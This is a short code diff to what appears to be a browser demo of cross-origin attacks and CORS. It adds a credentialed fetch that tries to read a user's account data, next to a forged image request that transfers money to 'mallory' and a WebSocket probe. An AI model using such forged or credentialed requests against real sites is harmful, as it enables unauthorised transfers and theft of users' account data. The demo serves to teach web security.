@@ -24,6 +24,11 @@ const attacks = [
     image.onload = image.onerror = () => resolve("sent");
     image.src = `${api}/transfer?to=mallory&amount=100`;
   })],
+  // The server answers all the same: CORS only keeps its answer from the page.
+  ["read", "The account, by fetch", async () => {
+    const response = await fetch(`${api}/account`, { credentials: "include" }).catch(() => null);
+    return response ? `read: ${await response.text()}` : "no answer for this page";
+  }],
   // CORS has no say here: the page reads whatever the server sends to its user.
   ["socket", "A WebSocket", () => new Promise((resolve) => {
     const socket = new WebSocket(live);
